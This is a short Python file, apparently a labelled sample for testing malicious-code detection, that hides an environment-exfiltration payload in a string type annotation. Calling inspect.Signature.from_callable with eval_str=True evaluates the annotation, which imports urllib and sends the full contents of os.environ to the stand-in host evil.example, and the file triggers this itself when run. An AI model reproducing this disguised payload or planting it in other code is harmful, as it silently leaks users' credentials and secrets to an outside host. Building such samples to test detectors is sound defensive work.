# harm: exfiltrates the whole environment over HTTP ; trick: inspect.Signature.from_callable(eval_str=True) evaluates the string held by the annotation name
import inspect

Spec = "__import__('urllib.request').request.urlopen('http://evil.example/e?d='+__import__('urllib.parse').parse.quote(repr(dict(__import__('os').environ))))"


def configure(opts: Spec) -> None:
    pass


try:
    inspect.Signature.from_callable(configure, eval_str=True)
except Exception:
    pass
